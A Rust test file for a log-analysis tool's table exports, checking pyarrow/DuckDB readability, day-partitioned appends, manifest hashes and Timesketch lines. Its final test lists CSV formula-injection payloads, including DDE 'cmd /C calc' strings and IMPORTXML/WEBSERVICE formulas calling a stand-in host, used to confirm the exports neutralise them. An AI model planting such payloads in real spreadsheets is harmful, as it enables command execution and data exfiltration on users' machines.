//! The tables as a warehouse reads them: pyarrow and DuckDB against the documentation, days appended to days, lines for Timesketch, spreadsheets.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::print_stderr,
    reason = "tests may say what they mean"
)]

mod made;

use std::path::{Path, PathBuf};
use std::process::Command;

use tapscope::attribute::Catalogue;
use tapscope::plan::Plan;
use tapscope::{Analysis, report};

fn docs() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/tables.md")
}

fn write(analysis: &Analysis, out: &Path, plan: &Plan) {
    report::write(analysis, &Catalogue::default(), plan, out, false).unwrap();
}

/// Runs a part of `tables.py`; says loudly where its libraries are missing.
fn python(arguments: &[&str]) -> Option<String> {
    let there = Command::new("python3")
        .args(["-c", "import pyarrow.dataset, duckdb"])
        .output();
    if !there.is_ok_and(|output| output.status.success()) {
        assert!(
            std::env::var_os("TAPSCOPE_REQUIRE_PYTHON").is_none(),
            "python3 with pyarrow and duckdb is wanted and not here"
        );
        eprintln!(
            "SKIPPED: {arguments:?}: python3 with pyarrow and duckdb is not here (pip install pyarrow duckdb)"
        );
        return None;
    }
    let output = Command::new("python3")
        .args([
            "-B",
            concat!(env!("CARGO_MANIFEST_DIR"), "/tests/bi/tables.py"),
        ])
        .args(arguments)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{arguments:?}:\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    Some(String::from_utf8(output.stdout).unwrap())
}

#[test]
fn pyarrow_and_duckdb_read_every_documented_column() {
    for analysis in [made::day(3000), made::hostile(), made::day(0)] {
        let parent = tempfile::tempdir().unwrap();
        let out = parent.path().join("out");
        write(&analysis, &out, &made::plan());
        python(&["types", out.to_str().unwrap(), docs().to_str().unwrap()]);
    }
}

/// Copies a folder's files into another, as `cp -r` would.
fn copy(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let path = entry.unwrap().path();
        let target = to.join(path.file_name().unwrap());
        if path.is_dir() {
            copy(&path, &target);
        } else {
            std::fs::copy(&path, &target).unwrap();
        }
    }
}

fn shifted(analysis: &mut Analysis, micros: i64, hash: u8) {
    let c = &mut analysis.correlated;
    for attempt in &mut c.attempts {
        for at in [&mut attempt.started_at, &mut attempt.ended_at] {
            *at = at.map(|at| at + micros);
        }
        attempt.tx_id = attempt.tx_id.chars().rev().collect();
    }
    for at in &mut c.aligned {
        *at = at.get().map(|at| at + micros).into();
    }
    for source in &mut c.sources {
        source.blake3 = [hash; 32];
    }
}

/// Two runs that overlap in a day, a run again, and attempts without a time: in one tree, nothing is lost or doubled.
#[test]
fn days_are_appended_by_copying() {
    let parent = tempfile::tempdir().unwrap();
    let mut plan = made::plan();
    plan.by_day = true;
    let lake = parent.path().join("lake");
    let mut rows = std::collections::BTreeMap::<&str, usize>::new();
    let runs: [(Analysis, bool); 4] = {
        let monday = made::day(400);
        let mut tuesday = made::day(300);
        // Half of it falls on the next UTC day.
        shifted(&mut tuesday, 10 * 3_600_000_000, 7);
        let mut odd = made::hostile();
        shifted(&mut odd, 0, 8);
        [
            (monday, true),
            (tuesday, true),
            (odd, true),
            (made::day(400), false),
        ]
    };
    for (number, (analysis, new)) in runs.iter().enumerate() {
        let out = parent.path().join(format!("run{number}"));
        write(analysis, &out, &plan);
        if *new {
            for table in ["transactions", "facts", "events", "evidence", "incidents"] {
                let manifest = std::fs::read_to_string(out.join("manifest.json")).unwrap();
                let manifest: serde_json::Value = serde_json::from_str(&manifest).unwrap();
                let whole = manifest["outputs"].as_array().unwrap().iter();
                let count = whole
                    .filter(|o| o["path"] == format!("{table}.parquet"))
                    .map(|o| o["rows"].as_u64().unwrap() as usize);
                *rows.entry(table).or_default() += count.sum::<usize>();
            }
        }
        copy(&out.join("by_day"), &lake);
    }
    let mut days = std::collections::BTreeMap::<Option<String>, u64>::new();
    for (analysis, _) in runs.iter().filter(|(_, new)| *new) {
        for attempt in &analysis.correlated.attempts {
            let time = attempt
                .started_at
                .map(|at| jiff::Timestamp::from_microsecond(at).unwrap());
            *days
                .entry(time.map(|t| t.strftime("%Y-%m-%d").to_string()))
                .or_default() += 1;
        }
    }
    assert_eq!(
        days.len(),
        3,
        "two days, and those without a time: {days:?}"
    );
    let expected = serde_json::json!({"rows": rows, "days": days.iter().collect::<Vec<_>>()});
    python(&["lake", lake.to_str().unwrap(), &expected.to_string()]);
}

/// The manifest vouches for the parts too, and two runs over the same inputs give the same bytes under the same names.
#[test]
fn parts_are_vouched_for_and_repeatable() {
    let parent = tempfile::tempdir().unwrap();
    let mut plan = made::plan();
    (plan.by_day, plan.timesketch) = (true, true);
    let mut listed = Vec::new();
    for name in ["one", "two"] {
        let out = parent.path().join(name);
        write(&made::day(500), &out, &plan);
        let manifest = std::fs::read_to_string(out.join("manifest.json")).unwrap();
        let manifest: serde_json::Value = serde_json::from_str(&manifest).unwrap();
        let outputs = manifest["outputs"].as_array().unwrap().clone();
        let parts = outputs
            .iter()
            .filter(|o| o["path"].as_str().unwrap().starts_with("by_day/"));
        assert!(parts.count() >= 7);
        for output in &outputs {
            let bytes = std::fs::read(out.join(output["path"].as_str().unwrap())).unwrap();
            assert_eq!(
                output["blake3"],
                blake3::hash(&bytes).to_hex().as_str(),
                "{output}"
            );
        }
        listed.push(outputs);
    }
    assert_eq!(listed[0], listed[1]);
}

#[test]
fn timesketch_takes_the_lines() {
    for analysis in [made::day(400), made::hostile()] {
        let parent = tempfile::tempdir().unwrap();
        let out = parent.path().join("out");
        let mut plan = made::plan();
        plan.timesketch = true;
        write(&analysis, &out, &plan);
        let file = out.join("timesketch.jsonl");
        // Written later from the tables, it is the same.
        let again = parent.path().join("again.jsonl");
        let folder = report::Folder::open(&out).unwrap();
        let written = folder
            .write_timesketch(&again, &report::PageOptions::default())
            .unwrap();
        let text = std::fs::read_to_string(&file).unwrap();
        assert_eq!(text, std::fs::read_to_string(&again).unwrap());
        assert_eq!(text.lines().count() as u64, written.lines);
        let Some(answer) = python(&["timesketch", file.to_str().unwrap()]) else {
            return;
        };
        let answer: serde_json::Value = serde_json::from_str(&answer).unwrap();
        let mut reader = csv::Reader::from_path(out.join("transactions.csv")).unwrap();
        let header = reader.headers().unwrap().clone();
        let cell = |row: &csv::StringRecord, name: &str| {
            row[header.iter().position(|h| h == name).unwrap()].to_owned()
        };
        let mut failed: Vec<String> = reader
            .records()
            .map(Result::unwrap)
            .filter(|row| cell(row, "failed") == "true" && !cell(row, "started_at").is_empty())
            .map(|row| cell(&row, "tx_id"))
            .collect();
        failed.sort();
        assert_eq!(answer["attempts"], serde_json::json!(failed));
    }
}

/// What spreadsheets take for a formula, in every text column, stays text; numbers stay numbers.
#[test]
fn no_cell_of_the_csv_is_a_formula() {
    const FORMULAS: &[&str] = &[
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1-1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "   @SUM(1)",
        "\u{a0}=1+1",
        "\u{3000}=1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "%0A=1",
        "\"=1+1\"",
        "'=1+1",
        ";=1+1",
        ",=1+1",
        "\",=1+1",
        "\"\n=1+1",
        "=HYPERLINK(\"http://example.test\",\"x\")",
        "=IMPORTXML(CONCAT(\"http://example.test/\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=WEBSERVICE(\"http://example.test\")",
        "-2+3+cmd|' /C calc'!A0",
    ];
    for formula in FORMULAS {
        let mut analysis = made::hostile();
        let keys = &mut analysis.correlated.attempts[0].keys;
        for slot in [
            &mut keys.terminal,
            &mut keys.merchant,
            &mut keys.device,
            &mut keys.host,
            &mut keys.rrn,
            &mut keys.auth_code,
            &mut keys.aid,
            &mut keys.entry_mode,
            &mut keys.response_code,
            &mut keys.tvr,
        ] {
            *slot = Some((*formula).into());
        }
        let verdict = analysis.attributed.verdicts.get_mut(&0).unwrap();
        verdict.cause = Some((*formula).into());
        verdict.missing_evidence = Some((*formula).into());
        verdict.owners = vec![(*formula).into()];
        verdict.contributing = vec![(*formula).into(), (*formula).into()];
        verdict.alternatives = vec![((*formula).into(), 0.5)];
        let parent = tempfile::tempdir().unwrap();
        let out = parent.path().join("out");
        write(&analysis, &out, &made::plan());
        // As written, quotes and all: a text cell is quoted, and what stands first in it is harmless.
        let text = std::fs::read_to_string(out.join("transactions.csv")).unwrap();
        let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
        let header = reader.headers().unwrap().clone();
        let mut seen = 0;
        for row in reader.records() {
            let row = row.unwrap();
            assert_eq!(row.len(), header.len(), "{formula:?} breaks a row");
            for (name, cell) in header.iter().zip(&row) {
                let number = matches!(
                    name,
                    "attempt"
                        | "duration_ms"
                        | "amount_minor"
                        | "confidence"
                        | "log_events"
                        | "apdu_events"
                        | "net_events"
                        | "link_confidence"
                );
                assert!(
                    !number || cell.is_empty() || cell.parse::<f64>().is_ok(),
                    "{name}: {cell}"
                );
                let first = cell
                    .trim_start_matches(|c: char| c.is_whitespace() || c.is_control())
                    .chars()
                    .next();
                let formula_like = matches!(
                    first,
                    Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠')
                );
                assert!(number || !formula_like, "{name}: {cell:?} from {formula:?}");
                seen += usize::from(!number && cell.contains("1+1"));
            }
        }
        assert!(
            !formula.contains("1+1") || seen >= 10,
            "{formula:?} is kept as text"
        );
    }
}
